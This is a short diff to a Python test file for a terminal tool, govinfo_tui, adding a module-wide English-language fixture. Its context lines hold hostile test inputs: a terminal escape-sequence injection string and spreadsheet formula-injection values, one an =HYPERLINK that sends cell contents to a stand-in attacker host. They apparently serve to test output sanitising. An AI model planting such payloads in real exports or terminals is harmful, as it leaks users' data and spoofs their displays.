@@ -32,6 +32,8 @@ from govinfo_tui.tui import fmt
 
 from .conftest import MARCH, gv, small_events, write_journal
 
+pytestmark = pytest.mark.usefixtures("english")  # these tests read the English words of messages
+
 ESC_TITLE = "\x1b]0;PWNED\x1b\\\x1b[2J\x1b[31mRED\x1b[0m"
 ESC_SHOWN = "\\x1b]0;PWNED\\x1b\\\\x1b[2J\\x1b[31mRED\\x1b[0m"
 FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&B3,"详情")', "+1", "-2", "@SUM(1+1)"]
